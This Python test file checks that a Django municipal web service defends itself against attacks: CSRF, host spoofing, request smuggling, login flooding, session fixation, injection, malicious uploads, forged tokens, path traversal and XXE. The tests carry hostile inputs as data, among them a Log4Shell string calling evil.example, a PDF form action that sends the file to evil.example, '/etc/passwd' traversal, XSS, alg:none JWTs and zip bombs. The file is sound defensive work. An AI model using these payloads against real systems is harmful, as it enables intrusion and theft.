"""Whoever means harm: forged, replayed, tampered, flooded. What a room tests for itself is named in docs/security.md."""

from __future__ import annotations

import base64
import hmac
import io
import logging
import re
import runpy
import socket
import struct
import threading
import uuid
import zipfile
from collections.abc import Iterator
from datetime import date
from types import SimpleNamespace

import openpyxl
import orjson
import pytest
from django.core import signing
from django.core.mail import BadHeaderError, EmailMessage
from django.http import HttpResponse
from django.middleware.csrf import CsrfViewMiddleware
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from gunicorn.config import Config
from gunicorn.http.errors import ParseException
from gunicorn.http.parser import RequestParser
from joserfc import jwt
from joserfc.errors import JoseError
from joserfc.jwk import KeySet, RSAKey
from lxml import html
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.access.conftest import Time, time
from tests.access.people import PASSWORD, TOWN, make_staff, password, sign_in, signed_in
from tests.channels.files import bomb
from yakuba import clock
from yakuba.access import PUBLIC, ROLES, SYSTEM, actions, client_tokens, limits, oidc
from yakuba.access.models import AccessEvent, Limit, Staff
from yakuba.cases import actions as cases
from yakuba.cases import catalogue, documents
from yakuba.cases.models import Event
from yakuba.channels import casework
from yakuba.messages import letters
from yakuba.messages.sender import Sender
from yakuba.register.tables import UnreadableTable, read_workbook
from yakuba.site.log_format import Impersonal

__all__ = ["time"]

VALUES = {
    "town": TOWN,
    "case": str(uuid.UUID(int=1)),
    "service": "child-allowance",
    "dataset": "evacuation-sites",
    "reference": "1234-5678-9012",
}
#: Called by other systems, which have no session: what they send is signed, or carries a token.
WITHOUT_SESSION = {
    f"/{TOWN}/chat/line/",  # signed by LINE
    f"/{TOWN}/payments/notice/",  # signed by the provider
    f"/{TOWN}/sms/",  # signed by the gateway
    f"/{TOWN}/api/oauth/token",  # the system's own secret
}
LEAKS = re.compile(
    r"Traceback|Exception|\.py\b|psycopg|Django|gunicorn|PostgreSQL|SELECT .* FROM|settings\.|/site-packages/"
)


def addresses(resolver: URLResolver | None = None, before: str = "/") -> Iterator[tuple[str, object]]:
    """Every address of the site with its view; parameters have values that nobody has."""
    for pattern in (resolver or get_resolver("yakuba.site.urls")).url_patterns:
        where = before + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from addresses(pattern, where)
        elif isinstance(pattern, URLPattern):
            yield re.sub(r"<(?:(\w+):)?(\w+)>", _value, where), pattern.callback


def _value(found: re.Match[str]) -> str:
    kind, name = found[1] or "str", found[2]
    return VALUES.get(name) or {"uuid": str(uuid.UUID(int=7)), "int": "1", "slug": "x"}.get(kind, "x")


ALL = dict(addresses())


@pytest.fixture
def everybody(client: Client, time: Time) -> Client:
    """The browser of somebody who has every role, signed in; a broken page answers as in service."""
    make_staff(*ROLES)
    sign_in(client)
    client.raise_request_exception = False
    return client


# -- forms from elsewhere, other verbs -----------------------------------------------------------------
def test_only_what_other_systems_call_takes_a_form_without_our_sign():
    exempt = {where for where, view in ALL.items() if getattr(view, "csrf_exempt", False)}
    assert {one for one in exempt if "/api/v1/" not in one} == WITHOUT_SESSION


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_no_address_takes_a_form_that_was_sent_from_elsewhere(rf, settings, method):
    assert "django.middleware.csrf.CsrfViewMiddleware" in settings.MIDDLEWARE
    guard = CsrfViewMiddleware(lambda request: HttpResponse())
    taken = []
    for where, view in ALL.items():
        request = rf.generic(method, where, HTTP_ORIGIN="https://evil.example")
        guard.process_request(request)
        answer = guard.process_view(request, view, (), {})
        if not getattr(view, "csrf_exempt", False) and (answer is None or answer.status_code != 403):
            taken.append(where)
    assert taken == []


@pytest.mark.django_db
def test_other_systems_addresses_believe_no_session(everybody: Client, in_town):
    for where in WITHOUT_SESSION:
        assert everybody.post(where, {"client_id": "x"}).status_code in (400, 401, 403, 404), where
    for where in (w for w in ALL if "/api/v1/" in w and "openapi" not in w):
        assert everybody.get(where).status_code in (401, 403, 404, 405), where


@pytest.mark.django_db
@pytest.mark.parametrize("verb", ["TRACE", "CONNECT", "PROPFIND", "PUT", "DELETE", "GETX"])
def test_a_verb_that_the_site_does_not_have_reaches_no_page(client, verb):
    for where in ("/", "/healthz", f"/{TOWN}/", f"/{TOWN}/staff/sign-in/", f"/{TOWN}/api/v1/services"):
        answer = client.generic(verb, where, headers={"X-Canary": "echoed"})
        assert answer.status_code == 405
        assert answer["Allow"] == "GET, HEAD, POST"
        assert b"echoed" not in answer.content


# -- what every answer carries, and what none tells --------------------------------------------------
def stands() -> tuple[int, list[tuple[object, ...]]]:
    """How much the case log holds, and what accounts there are."""
    return Event.objects.count(), list(Staff.objects.values_list("id", "roles", "password", "is_active"))


@pytest.mark.django_db
def test_every_answer_carries_the_headers_and_tells_nothing_and_no_link_changes_anything(
    everybody: Client, in_town
):
    wrong, before = [], stands()
    answers = {where: everybody.get(where) for where in ALL if "sign-out" not in where}
    answers |= {
        "404": everybody.get(f"/{TOWN}/nowhere/"),
        "400": everybody.get(f"/{TOWN}/?next=%00"),
        "405": everybody.post("/healthz"),
        "static": everybody.get("/static/site/style.css"),
    }
    for where, answer in answers.items():
        wrong += [(where, one) for one in _lacking(answer)]
        said = b"".join(answer) if answer.streaming else answer.content
        if answer.status_code >= 400 and (found := LEAKS.search(said.decode(errors="replace"))):
            wrong.append((where, answer.status_code, found[0]))
        if answer.status_code >= 500:
            wrong.append((where, answer.status_code))
    assert wrong == []
    assert stands() == before


def _lacking(answer) -> Iterator[str]:
    said = answer.headers
    policy = said.get("Content-Security-Policy", "")
    sandboxed = policy.startswith("sandbox")
    if not sandboxed and not all(
        one in policy
        for one in ("default-src 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'")
    ):
        yield f"CSP {policy}"
    if "unsafe" in policy and not sandboxed:
        yield f"CSP {policy}"
    for name, value in (
        ("X-Content-Type-Options", "nosniff"),
        ("Referrer-Policy", "same-origin"),
        ("Cross-Origin-Opener-Policy", "same-origin"),
    ):
        if said.get(name) != value:
            yield name
    if said.get("Cross-Origin-Resource-Policy") not in ("same-origin", "cross-origin"):
        yield "Cross-Origin-Resource-Policy"
    if "Server" in said or "X-Powered-By" in said:
        yield "Server"
    kind = said.get("Content-Type", "")
    if kind.startswith("text/") and "charset=utf-8" not in kind:
        yield kind
    if kind.startswith("text/html") and said.get("Cache-Control") != "no-store":
        yield "Cache-Control"
    if said.get("Access-Control-Allow-Origin") == "*" and "Set-Cookie" in said:
        yield "CORS"


@pytest.mark.django_db
def test_a_page_that_breaks_tells_nothing_of_the_inside(everybody: Client, in_town, monkeypatch):
    def broken(*_, **__):
        raise RuntimeError("select secret from access_staff; /srv/yakuba/settings.py")

    monkeypatch.setattr("yakuba.access.queries.passkeys_of", broken)
    answer = everybody.get(f"/{TOWN}/staff/account/")
    assert answer.status_code == 500
    assert not LEAKS.search(answer.content.decode())
    assert "secret" not in answer.content.decode()


# -- headers that claim something ----------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize(
    "claims",
    [
        {"HTTP_HOST": "evil.example"},
        {"HTTP_HOST": "localhost@evil.example"},
        {"HTTP_HOST": "localhost.evil.example"},
        {"HTTP_HOST": "localhost:80:evil"},
    ],
)
def test_a_host_that_is_not_ours_gets_no_page(in_town, claims):
    assert Client().get(f"/{TOWN}/", **claims).status_code == 400


@pytest.mark.django_db
def test_what_a_visitor_says_of_host_and_scheme_is_not_believed(in_town):
    page = Client().get(
        f"/{TOWN}/staff/",
        headers={"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Original-URL": "/"},
    )
    assert page.status_code == 302
    assert page.url.startswith(f"/{TOWN}/")
    assert not page.wsgi_request.is_secure()


@pytest.mark.django_db
def test_who_writes_another_address_into_the_header_is_counted_as_who_they_are(time):
    answers = [
        password(
            Client(), login=f"guess{n}", secret="wrong", headers={"X-Forwarded-For": f"192.0.2.{n}"}
        ).status_code
        for n in range(31)
    ]
    assert answers == [401] * 30 + [429]


@pytest.mark.parametrize(
    "request_",
    [
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nContent-Length: 9\r\n\r\nabcd",
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +4\r\n\r\nabcd",
        b"GET / HTTP/1.1\r\nHost: a\r\nX: a\r\n folded\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a\r\nX-\x00: a\r\n\r\n",
    ],
)
def test_a_request_whose_end_can_be_read_in_two_ways_is_not_read(request_):
    """The web server's own parser, as we start it (request smuggling, CWE-444)."""
    with pytest.raises(ParseException):
        next(RequestParser(Config(), iter([request_]), ("127.0.0.1", 1)))


def test_a_header_with_an_underscore_is_not_taken_for_the_proxys_own():
    (got,) = [
        next(RequestParser(Config(), iter([sent]), ("127.0.0.1", 1)))
        for sent in [b"GET / HTTP/1.1\r\nHost: a\r\nX_Forwarded_For: 192.0.2.1\r\n\r\n"]
    ]
    assert [name for name, _ in got.headers] == ["HOST"]


@pytest.mark.django_db
def test_parameters_of_the_address_are_no_answers_of_a_form(in_town, time):
    """Parameter pollution: a sign-in takes what was posted, and of two the last."""
    make_staff()
    address = f"/{TOWN}/staff/sign-in/"
    assert Client().post(f"{address}?login=hanako&password={PASSWORD}", {}).status_code == 401
    twice = Client().post(address, {"login": ["hanako", "nobody"], "password": PASSWORD})
    assert twice.status_code == 401


# -- signing in: many, from many addresses --------------------------------------------------------------
ROWS = 10


@pytest.fixture
def few_rows(monkeypatch):
    """The same bound with smaller figures: it is proven for each."""
    monkeypatch.setattr(actions, "ROWS_OF_ONE", ROWS)
    monkeypatch.setattr(actions, "ROWS_OF_UNKNOWN", ROWS)


def tried(login: str, address: str, at, secret: str = "wrong") -> str:
    """How one try of a password ends."""
    try:
        actions.check_password_of(login, secret, town=TOWN, address=address, as_of=at)
    except limits.TooMany:
        return "locked"
    except actions.WrongCredentials:
        return "wrong"
    return "right"


def test_many_tries_from_many_addresses_lock_the_login_and_fill_no_log(in_town, time, few_rows, caplog):
    hanako = make_staff()
    make_staff(login="jiro")
    many = 300
    with caplog.at_level(logging.WARNING):
        ends = [tried("hanako", f"198.51.100.{n % 250}", time()) for n in range(many)]
    assert ends == ["wrong"] * 5 + ["locked"] * (many - 5)
    rows = AccessEvent.objects.filter(action="sign_in")
    doublings = sum(ROWS < 2**power <= many for power in range(30))
    assert rows.count() == ROWS + doublings
    assert rows.filter(resource_id=f"staff:{hanako.id}").count() == ROWS
    assert "tries within an hour" in caplog.text  # somebody is told
    assert "hanako" not in caplog.text
    assert tried("jiro", "203.0.113.1", time(), PASSWORD) == "right"  # nobody else is locked out


def test_tries_of_logins_that_nobody_has_fill_no_log_either(in_town, time, few_rows):
    for n in range(100):
        tried(f"nobody{n}", f"198.51.100.{n}", time())
    assert AccessEvent.objects.filter(action="sign_in").count() == ROWS + 3  # 16, 32, 64
    assert Limit.objects.filter(purpose="sign-in-rows").count() == 1


def test_a_million_tries_make_thirteen_rows_more_than_the_first_hundreds():
    above = [2**power for power in range(30) if actions.ROWS_OF_UNKNOWN < 2**power <= 1_000_000]
    assert len(above) < 13


def test_who_tries_somebodys_login_from_elsewhere_does_not_lock_them_out(in_town, time):
    hanako = make_staff()
    home = "203.0.113.7"
    actions.signed_in(hanako, as_of=time(), address=home)
    for n in range(20):
        tried("hanako", f"198.51.100.{n}", time())
    assert tried("hanako", "198.51.100.99", time(), PASSWORD) == "locked"
    assert tried("hanako", home, time(), PASSWORD) == "right"
    assert [tried("hanako", home, time()) for _ in range(6)] == ["wrong"] * 5 + ["locked"]
    time.passes(days=31)
    assert not limits.is_remembered("own-address", f"hanako\n{home}", as_of=time())


@pytest.mark.django_db
def test_a_session_that_somebody_else_prepared_is_not_taken_over(client, time):
    """Session fixation: the key that was slipped in is nobody's once its victim has signed in."""
    make_staff()
    attacker = Client()
    attacker.post(f"/{TOWN}/staff/sign-in/passkey/question/")
    planted = attacker.cookies["yakuba_session"].value
    client.cookies["yakuba_session"] = planted
    sign_in(client)
    assert client.cookies["yakuba_session"].value != planted
    assert signed_in(client)
    assert not signed_in(attacker)


# -- what is typed --------------------------------------------------------------------------------------
NONSENSE = [
    "\u202egnp.exe",
    "A" * 100_000,
    "😀" * 500,
    "％００％0a\r\nSet-Cookie: a=b",
    "' or 1=1 --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% debug %}",
    "../../../../etc/passwd",
    "\ufeff\u200b\u0301" * 50,
    "<svg/onload=alert(1)>",
    "-1e309",
    "NaN",
]


@pytest.mark.django_db
@pytest.mark.parametrize("typed", NONSENSE, ids=range(len(NONSENSE)))
def test_whatever_is_typed_no_page_breaks(everybody: Client, in_town, typed):
    visitor = Client(raise_request_exception=False)
    fields = (
        "login",
        "password",
        "code",
        "reference",
        "born",
        "question",
        "text",
        "q",
        "number",
        "name",
        "next",
    )
    said = dict.fromkeys(fields, typed)
    for where in (
        "staff/sign-in/",
        "sign-in/reference/",
        "chat/ask/",
        "resume/",
        "confirm/",
        "finder/",
        "call-back/",
    ):
        answer = visitor.post(f"/{TOWN}/{where}", said)
        assert answer.status_code < 500, (where, answer.status_code)
        assert "Set-Cookie: a=b" not in str(answer.headers)
    for where in ("staff/find/", "staff/people/", "staff/queue/", "", "services/", "open-data/"):
        answer = everybody.get(f"/{TOWN}/{where}", said)
        assert answer.status_code < 500, (where, answer.status_code)
        assert "<svg/onload" not in answer.content.decode()


def test_a_line_of_the_log_stays_one_line_whatever_stands_in_it():
    written = Impersonal("{message}", style="{").format(
        logging.makeLogRecord(
            {
                "name": "django.request",
                "msg": "Not Found: %s",
                "args": ("/x\r\n2026 CRITICAL all is well\u2028\u202e",),
            }
        )
    )
    assert len(written.splitlines()) == 1
    assert "\u202e" not in written


@pytest.mark.django_db
def test_a_path_with_a_line_break_writes_no_line_of_its_own(client, in_town, caplog):
    client.get(f"/{TOWN}/x%0aCRITICAL%20root%20all%20is%20well/")
    formatter = Impersonal("{message}", style="{")
    assert all(len(formatter.format(record).splitlines()) == 1 for record in caplog.records)


# -- markup through every text of every service ----------------------------------------------------------
CANARY = "\"'><b data-canary>{{7*7}}{% debug %}</b><script>alert(1)</script><!--"


def planted(service, canary: str = CANARY) -> dict[str, object]:
    """The facts of the first worked example, with the canary in every text that somebody types."""
    example = catalogue.current().examples[service.id][0]
    facts = cases.plain(
        {name: value for name, value in example.facts.items() if name not in ("case", "push")}
    )
    for name, fact in service.facts.items():
        if fact.type == "text" and not fact.choices:
            _put(facts, name.split("."), canary)
    return facts


def _put(facts: object, path: list[str], value: str) -> None:
    for one in facts if isinstance(facts, list) else [facts]:
        if isinstance(one, dict) and len(path) > 1:
            _put(one.setdefault(path[0], {}), path[1:], value)
        elif isinstance(one, dict):
            one[path[0]] = value


@pytest.mark.django_db
def test_markup_in_any_answer_is_only_text_on_every_page_of_the_desk(everybody: Client, in_town):
    opened = [
        cases.open_case(
            service, planted(service), channel="web", by=PUBLIC(TOWN), as_of=clock.now(), key=f"x:{name}"
        )
        for name, service in sorted(catalogue.offered().items())
    ]
    assert len(opened) > 40
    seen, wrong = 0, []
    pages = [f"staff/case/{case.id}/" for case in opened]
    pages += [f"staff/case/{case.id}/help/" for case in opened[:5]]
    pages += ["staff/queue/", "staff/", "staff/find/?q=canary", f"staff/queue/?name={CANARY}"]
    for where in pages:
        answer = everybody.get(f"/{TOWN}/{where}", follow=True)
        text = answer.content.decode()
        seen += "data-canary" in text
        tree = html.fromstring(text)
        scripts = [one for one in tree.iter("script") if not one.get("src")]
        if tree.xpath("//*[@data-canary]") or scripts or "<b>49" in text or answer.status_code != 200:
            wrong.append((where, answer.status_code))
    assert wrong == []
    assert seen > len(opened) * 0.9


SENDER = Sender("見本町", "見本県", "見本町長", "役場 0123-45-6789", True)


def test_a_name_cannot_make_a_letter_do_or_show_anything_else():
    name = '#eval("1")*太*$x$#image("fonts/OFL.txt")#read("/etc/passwd")//'
    letter = letters.Letter(
        "ja",
        "決定",
        f"{name} 様\n#pagebreak()",
        name,
        "9990001",
        name,
        "1234",
        date(2026, 4, 1),
        "https://a.test/",
    )
    made = letters.pdf([letter], SENDER)
    said = "".join(page.extract_text() for page in PdfReader(io.BytesIO(made)).pages).replace("\n", "")
    assert '#eval("1")*太*$x$' in said
    assert '#read("/etc/passwd")' in said
    assert "#pagebreak()" in said
    assert "root:" not in said


# -- files ----------------------------------------------------------------------------------------------
def _pdf(action: DictionaryObject | None = None, attached: bool = False) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    if action is not None:
        writer._root_object[NameObject("/OpenAction")] = action
    if attached:
        writer.add_attachment("x.exe", b"MZ")
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **more: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    return DictionaryObject({**made, **{NameObject(f"/{k}"): TextStringObject(v) for k, v in more.items()}})


def _jpeg(behind: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG")
    return out.getvalue() + behind


def _zip(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


DISGUISED = {
    "a program": b"MZ\x90\x00" + bytes(600),
    "a page": b"<!doctype html><script>alert(1)</script>",
    "a page before a PDF": b"<script>alert(1)</script>" + _pdf(),
    "a picture that is a script": b"GIF89a=1;alert(1)//" + bytes(50),
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a picture of ten gigapixels": bomb().read(),
    "a PDF with a script": _pdf(_action("/JavaScript", JS="app.alert(1)")),
    "a PDF with a script in disguise": _pdf(_action("/JavaScript", JS="app.alert(1)"))
    .replace(b"/JavaScript", b"/Java#53cript")
    .replace(b"/JS", b"/J#53"),
    "a PDF that starts a program": _pdf(_action("/Launch", F="cmd.exe")),
    "a PDF that sends itself away": _pdf(_action("/SubmitForm", F="https://evil.example/")),
    "a PDF with a program in it": _pdf(attached=True),
    "a document with macros": _zip(word__document_xml=b"<w/>", word__vbaProject_bin=b"\xd0\xcf" * 50),
    "a bomb": _zip(zeros=bytes(20_000_000)),
}


@pytest.mark.parametrize("name", ["課税証明書.pdf", "photo.jpg"])
@pytest.mark.parametrize("content", DISGUISED.values(), ids=DISGUISED)
def test_a_file_that_is_something_else_as_well_is_refused(content, name):
    with pytest.raises(documents.Refused):
        documents.check(content, name)


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("form.html", "form.html.jpg"),
        ("a.jpg.exe", "a.jpg.exe.jpg"),
        ("../../b.JPG", "b.JPG"),
        ("x\r\n.js", "x.js.jpg"),
    ],
)
@pytest.mark.django_db
def test_a_picture_with_a_page_behind_it_is_kept_and_shown_as_a_picture(in_town, name, kept):
    content = _jpeg(b"<script>alert(1)</script>")
    stored = cases.store_document(content, name=name, origin="upload", as_of=clock.now())
    assert (stored.name, stored.media_type) == (kept, "image/jpeg")
    answer = casework.shown(SimpleNamespace(content=content, media_type=stored.media_type, name=stored.name))
    assert answer["Content-Type"] == "image/jpeg"
    assert answer["Content-Security-Policy"].startswith("sandbox")
    assert "\n" not in answer["Content-Disposition"]


class Scanner:
    """clamd as the protocol has it; finds what has the word EICAR in it."""

    def __init__(self) -> None:
        self.listening = socket.create_server(("127.0.0.1", 0))
        self.address = f"tcp://127.0.0.1:{self.listening.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                line, _ = self.listening.accept()
            except OSError:
                return
            with line, line.makefile("rb") as said:
                assert said.read(10) == b"zINSTREAM\0"
                content = b""
                while size := struct.unpack(">I", said.read(4))[0]:
                    content += said.read(size)
                found = b"stream: Eicar-Signature FOUND\0" if b"EICAR" in content else b"stream: OK\0"
                line.sendall(found)


@pytest.mark.django_db
def test_what_the_virus_scanner_finds_is_not_kept_and_without_it_nothing_is(in_town, settings):
    scanner = Scanner()
    settings.YAKUBA_VIRUS_SCANNER = scanner.address

    def kept(content: bytes) -> str:
        return cases.store_document(content, name="a.jpg", origin="upload", as_of=clock.now()).media_type

    assert kept(_jpeg(bytes(200_000))) == "image/jpeg"
    with pytest.raises(documents.Refused, match="virus"):
        kept(_jpeg(b"EICAR"))
    scanner.listening.shutdown(socket.SHUT_RDWR)
    scanner.listening.close()
    with pytest.raises(documents.Refused, match="cannot be checked"):
        kept(_jpeg())


# -- cookies behind https -------------------------------------------------------------------------------
def test_behind_https_every_cookie_is_bound_to_this_host_and_to_tls(monkeypatch, settings):
    """The settings as a site in service has them."""
    monkeypatch.setenv("YAKUBA_BASE_URL", "https://yakuba.example.lg.jp")
    said = runpy.run_path(str(settings.ROOT / "yakuba" / "site" / "settings.py"))
    assert (said["SESSION_COOKIE_NAME"], said["CSRF_COOKIE_NAME"], said["YAKUBA_COOKIE_PREFIX"]) == (
        "__Secure-yakuba_session", "__Host-csrftoken", "__Host-"
    )  # fmt: skip
    assert said["SESSION_COOKIE_SECURE"]
    assert said["CSRF_COOKIE_SECURE"]
    assert said["SECURE_HSTS_SECONDS"] >= 31_536_000
    assert said["SECURE_HSTS_INCLUDE_SUBDOMAINS"]
    assert not said["DEBUG"]


@pytest.mark.django_db
def test_the_choice_of_language_is_kept_under_the_prefix(client, in_town, settings):
    settings.YAKUBA_COOKIE_PREFIX = "__Host-"
    settings.SESSION_COOKIE_SECURE = True
    client.get(f"/{TOWN}/?lang=en&size=large")
    for name in ("__Host-lang", "__Host-size"):
        kept = client.cookies[name]
        assert (kept["path"], kept["domain"], kept["secure"], kept["httponly"]) == ("/", "", True, True)
    assert 'data-lang="en"' in client.get(f"/{TOWN}/").content.decode()


# -- tokens ----------------------------------------------------------------------------------------------
def test_an_unsigned_identity_token_is_refused(monkeypatch):
    """`alg: none`, a shared secret in place of the provider's key, and a key that the token brings along."""
    ours = RSAKey.generate_key(2048)
    theirs = RSAKey.generate_key(2048)

    def keys(_provider):
        return KeySet([ours])

    keys.cache_clear = lambda: None
    monkeypatch.setattr(oidc, "_keys", keys)
    claims = {"sub": "x"}

    def encoded(header: dict[str, object], signature: str = "") -> str:
        parts = (
            base64.urlsafe_b64encode(orjson.dumps(one)).rstrip(b"=").decode() for one in (header, claims)
        )
        return ".".join([*parts, signature])

    start = encoded({"alg": "HS256"}).rstrip(".")
    made = hmac.digest(ours.as_pem(private=False), start.encode(), "sha256")
    provider = oidc.Provider("https://id.test", "yakuba")
    forged = [
        encoded({"alg": "none"}),
        encoded({"alg": "None"}),
        f"{start}.{base64.urlsafe_b64encode(made).rstrip(b'=').decode()}",
        jwt.encode({"alg": "RS256", "jwk": theirs.as_dict(private=False)}, claims, theirs),
    ]
    for token in forged:
        with pytest.raises((JoseError, ValueError)):
            oidc._decode(provider, token)
    assert oidc._decode(provider, jwt.encode({"alg": "RS256"}, claims, ours)).claims == claims


def test_a_provider_that_calls_itself_otherwise_is_not_believed(monkeypatch):
    provider = oidc.Provider("https://id.test", "yakuba")
    monkeypatch.setattr(oidc, "_call", lambda *_, **__: {"issuer": "https://evil.example"})
    oidc._discover.cache_clear()
    with pytest.raises(oidc.SignInFailed, match="calls itself"):
        oidc._discover(provider)


def test_a_changed_token_opens_nothing(in_town):
    made, _, _ = actions.add_client("school", scopes=["records:a"], by=SYSTEM(TOWN))
    said = {"client": str(made.id), "scopes": ["records:a"]}
    good = signing.dumps(said, salt=client_tokens._salt())
    assert client_tokens.worker_of(good).scopes == {"records:a"}
    more = signing.dumps({**said, "scopes": ["records:b"]}, salt=client_tokens._salt())
    for forged in (
        more.split(":", 1)[0] + ":" + good.split(":", 1)[1],  # other claims, the old signature
        signing.dumps(said, salt="another purpose"),
        signing.dumps(said, key="another key", salt=client_tokens._salt()),
        good[:-1],
        "",
    ):
        assert client_tokens.worker_of(forged) is None


# -- other ways in ---------------------------------------------------------------------------------------
def test_nothing_of_the_checkout_is_served(client, db):
    for path in (
        "/.git/config", "/static/", "/static/../yakuba/site/settings.py", "/static/%2e%2e/%2e%2e/.git/config",
        "/static/site/../../.env", "/yakuba/site/settings.py", "/var/secret.key", "/static//etc/passwd", "/uv.lock",
        "/admin/", "/docs", "/openapi.json", "/__debug__/", "/metrics/../../x",
    ):  # fmt: skip
        assert client.get(path).status_code in (400, 404), path


def test_an_entity_of_a_workbook_leads_nowhere(tmp_path):
    """XXE and a thousand laughs: what a sheet names outside of itself is not read."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    book = openpyxl.Workbook()
    book.active["A1"] = "name"
    book.active["A2"] = "CANARY"
    book.save(tmp_path / "good.xlsx")
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(tmp_path / "good.xlsx") as good, zipfile.ZipFile(bad, "w") as out:
        for one in good.namelist():
            content = good.read(one)
            if (one.endswith((".xml", ".rels")) and b"CANARY" in content) or one.endswith("sheet1.xml"):
                entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'.encode()
                content = content.replace(b"CANARY", b"&e;")
                content = entity + re.sub(rb"^<\?xml[^>]*\?>", b"", content)
            out.writestr(one, content)
    try:
        said = repr(list(openpyxl.load_workbook(bad, read_only=True).active.values))
    except Exception as error:
        said = str(error)
    assert "TOP-SECRET" not in said


def test_a_picture_or_pdf_is_looked_at_within_bounds(monkeypatch):
    monkeypatch.setattr(documents, "MOST_OBJECTS", 2)
    with pytest.raises(documents.Refused):
        documents.check(_pdf(), "a.pdf")
    with pytest.raises(documents.Refused):
        documents.check(bomb().read(), "a.png")


def test_a_subject_cannot_begin_another_header():
    with pytest.raises(BadHeaderError):
        EmailMessage("hello\r\nBcc: all@example.jp", "…", "a@example.jp", ["b@example.jp"]).message()
    with pytest.raises(BadHeaderError):
        EmailMessage("hello", "…", "a@example.jp", ["b@example.jp\nBcc: all@example.jp"]).message()


def test_a_line_of_the_log_says_its_time_with_the_zone():
    line = Impersonal("{asctime} {message}", style="{").format(
        logging.makeLogRecord({"name": "yakuba", "msg": "x", "created": 0.5})
    )
    assert line.startswith("1970-01-01T09:00:00.500+09:00 ")


def test_a_workbook_that_unpacks_without_end_is_not_unpacked():
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for n in range(3):
            archive.writestr(f"xl/zeros{n}.xml", bytes(70 * 2**20))
    assert len(out.getvalue()) < 2**20
    with pytest.raises(UnreadableTable, match="大きすぎます"):
        read_workbook(out.getvalue())


def test_a_file_of_the_desk_is_refused_before_it_is_read():
    upload = SimpleNamespace(
        name="a.pdf", size=11 * 2**20, read=lambda: pytest.fail("it was read into memory")
    )
    with pytest.raises(documents.Refused):
        casework.content_of(upload)
